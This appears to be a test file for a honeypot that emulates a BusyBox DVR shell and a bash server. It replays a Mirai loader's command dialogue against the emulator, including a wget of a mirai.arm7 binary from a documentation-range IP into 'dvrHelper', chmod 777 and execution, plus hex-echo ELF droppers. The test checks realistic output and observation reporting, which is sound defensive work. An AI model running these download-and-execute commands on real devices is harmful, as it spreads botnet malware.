import t from 'tap'
import type { Observation } from '../../../protocols/observation.ts'
import { createMachine, type Kind } from '../../../protocols/shell/machine.ts'
import { createShell, MAX_REPORTED_CHARACTERS, type Shell } from '../../../protocols/shell/shell.ts'
import { identity } from '../../talk/session.ts'

function visit(kind: Kind = 'device', interactive = true): { shell: Shell; seen: Observation[] } {
  const seen: Observation[] = []
  const machine = createMachine(identity('dvrdvs'), kind)
  const report = (observation: Observation): void => void seen.push(observation)
  return { shell: createShell({ machine, user: 'root', interactive, report }), seen }
}
const say = (shell: Shell, line: string): string => shell.run(line).output

t.test('the dialogue of a Mirai loader', async (t) => {
  const { shell, seen } = visit()
  for (const word of ['enable', 'system', 'linuxshell'])
    t.equal(say(shell, word), `-sh: ${word}: not found\n`)
  t.match(say(shell, 'sh'), /^\n\nBusyBox v1\.\d+\.\d+ \(.*\) built-in shell \(ash\)\n/)
  t.match(
    say(shell, '/bin/busybox ps; /bin/busybox ECCHI'),
    /^ {2}PID USER .*\n {4}1 root .*ECCHI: applet not found\n$/s,
  )
  t.match(
    say(shell, '/bin/busybox cat /proc/mounts; /bin/busybox ECCHI'),
    /^rootfs \/ rootfs rw 0 0\n.*tmpfs \/dev tmpfs rw.*\nECCHI: applet not found\n$/s,
  )
  const nippon =
    "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon"
  t.equal(say(shell, nippon), 'kami/dev\n')
  t.equal(say(shell, 'cd /dev'), '')
  t.equal(
    say(
      shell,
      '/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
    ),
    'ECCHI: applet not found\n',
  )
  const elf = Buffer.from(say(shell, '/bin/busybox cat /bin/echo'), 'latin1')
  t.equal(elf.subarray(0, 4).toString('latin1'), '\x7fELF')
  t.equal(elf.readUInt16LE(18), 40, 'e_machine is ARM')
  t.match(say(shell, 'cat /proc/cpuinfo'), /ARMv7/)
  t.match(
    say(shell, '/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI'),
    /Usage: wget.*Usage: tftp.*ECCHI: applet not found\n$/s,
  )
  const fetch = shell.run(
    '/bin/busybox wget http://198.51.100.9:80/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
  )
  t.equal(
    fetch.output,
    "Connecting to 198.51.100.9 (198.51.100.9:80)\nwget: can't connect to remote host (198.51.100.9): Connection refused\nECCHI: applet not found\n",
  )
  t.ok(fetch.delayMs > 0)
  t.equal(say(shell, './dvrHelper telnet.arm7; /bin/busybox IHCCE'), 'IHCCE: applet not found\n')
  t.strictSame(new Set(seen.map(({ kind }) => kind)), new Set(['command']))
  t.equal(seen.length, 14, 'one observation for each line')
})

t.test('a dropper in pieces is one file', async (t) => {
  const { shell, seen } = visit()
  say(shell, "cd /tmp && echo -ne '\\x7f\\x45\\x4c\\x46' > .s")
  say(shell, "echo -ne '\\x01\\x00\\xff' >> .s")
  t.equal(say(shell, './.s'), '-sh: ./.s: Permission denied\n')
  say(shell, 'chmod +x .s; ./.s; ./.s')
  t.strictSame(
    seen.filter(({ kind }) => kind === 'file'),
    [
      // sha256sum of the seven bytes, by coreutils.
      {
        kind: 'file',
        name: '/tmp/.s',
        bytes: 7,
        sha256: 'd11cd96539003f94865a39574ac44572153a9351d65f4dc1c13b3ab4228ee56c',
      },
    ],
  )
})

t.test('a program left behind unused is reported at the end', async (t) => {
  const { shell, seen } = visit()
  say(shell, "echo -ne '\\x7fELF' > /tmp/a; echo text > /tmp/b")
  shell.close()
  t.match(seen.slice(1), [{ kind: 'file', name: '/tmp/a', bytes: 4 }])
})

const LINES: readonly (readonly [line: string, output: string | RegExp])[] = [
  ['false || echo no', 'no\n'],
  ['true && echo yes; echo $?', 'yes\n0\n'],
  ['false; echo $?', '1\n'],
  ['nosuch; echo $?', '-sh: nosuch: not found\n127\n'],
  [`echo "a  b" 'c $?' \\"d\\" e"f"g`, 'a  b c $? "d" efg\n'],
  ['A=5; echo $A"$A"x $B.', '55x .\n'],
  ['cat /proc/cpuinfo | grep -c processor', '1\n'],
  ['echo one > /tmp/x; echo two >> /tmp/x; cat /tmp/x; wc -l < /tmp/x', 'one\ntwo\n2\n'],
  ['cat /nosuch 2>/dev/null; cat /nosuch 2>&1 | grep -c open', '1\n'],
  ['>/tmp/.f && cd /tmp && pwd', '/tmp\n'],
  ['echo hi > /bin/x', "-sh: can't create /bin/x: Read-only file system\n"],
  ['echo hi > /nosuch/x', "-sh: can't create /nosuch/x: nonexistent directory\n"],
  ['cd /nosuch', "-sh: cd: can't cd to /nosuch\n"],
  ['mkdir -p /tmp/a/b; cd /tmp/a/b; cd ..; pwd; rm -rf /tmp/a; ls /tmp/a', '/tmp/a\nls: /tmp/a: No such file or directory\n'],
  ['ping ; sh -c "echo in"', /Usage: ping.*\nin\n$/s],
  ['echo -e "\\x41\\102\\0103\\n\\c" rest', 'ABC\n'],
  ['echo "echo piped" | sh', 'piped\n'],
  ["echo 'echo from script' > /tmp/s; sh /tmp/s", 'from script\n'],
  ["echo 'open", '-sh: syntax error: unterminated quoted string\n'],
  ['dd bs=4 count=1 if=/bin/echo 2>/dev/null', '\x7fELF'],
  ['id; uname; hostname', 'uid=0(root) gid=0(root)\nLinux\ndvrdvs\n'],
  ['/bin/busybox tftp -g -l x -r x 192.0.2.1', 'tftp: timeout\n'],
  ['wget http://files.example/x', "wget: bad address 'files.example'\n"],
  ['(echo a) & echo b # comment', 'a\nb\n'],
] // biome-ignore format: a table

for (const [line, output] of LINES)
  t.test(line, async (t) => {
    const { shell } = visit()
    const said = say(shell, line)
    if (typeof output === 'string') t.equal(said, output)
    else t.match(said, output)
  })

t.test('a server speaks bash', async (t) => {
  const { shell } = visit('server')
  t.equal(shell.prompt, 'root@dvrdvs:~# ')
  t.equal(say(shell, 'nosuch'), '-bash: nosuch: command not found\n')
  t.match(
    say(shell, 'uname -a'),
    /^Linux dvrdvs 5\.15\.0-91-generic #101-Ubuntu SMP .* x86_64 x86_64 x86_64 GNU\/Linux\n$/,
  )
  t.equal(say(shell, 'cd /tmp'), '')
  t.equal(shell.prompt, 'root@dvrdvs:/tmp# ')
  t.match(say(shell, 'curl -O http://192.0.2.1/x'), /^curl: \(7\) Failed to connect/)
  t.equal(say(visit('server', false).shell, 'nosuch'), 'bash: line 1: nosuch: command not found\n')
})

t.test('exit ends the innermost shell', async (t) => {
  const { shell } = visit()
  t.equal(shell.run('sh').exited, false)
  t.equal(shell.run('exit').exited, false)
  t.match(shell.run('exit 3'), { exited: true, status: 3 })
})

t.test('two machines differ, one stays the same', async (t) => {
  const facts = (name: string): unknown => {
    const { cpuinfo, busybox, uptimeSeconds } = createMachine(identity(name), 'device')
    return { cpuinfo, busybox, uptimeSeconds }
  }
  t.strictSame(facts('a'), facts('a'))
  t.strictNotSame(facts('a'), facts('b'))
})

t.test('what a stranger can make it do is bounded', async (t) => {
  const { shell, seen } = visit()
  say(shell, `echo ${'x'.repeat(8000)}`)
  t.equal((seen[0] as { text: string }).text.length, MAX_REPORTED_CHARACTERS)
  say(shell, `echo ${'y'.repeat(8000)} > /tmp/a`)
  const said = Array.from({ length: 9 }, () =>
    say(shell, 'cat /tmp/a /tmp/a > /tmp/b; cp /tmp/b /tmp/a'),
  )
  t.match(said.join(''), /No space left on device/)
  say(shell, 'rm /tmp/a /tmp/b')
  t.ok(say(shell, ';cat /bin/ls /bin/ls'.repeat(400)).length <= 256 * 1024)
  say(shell, "echo 'sh /tmp/s; sh /tmp/s' > /tmp/s")
  t.equal(say(shell, 'sh /tmp/s'), '', 'a script that runs itself ends')
  t.ok(shell.run('sleep 9999999; sleep 9999999').delayMs <= 15_000)
})
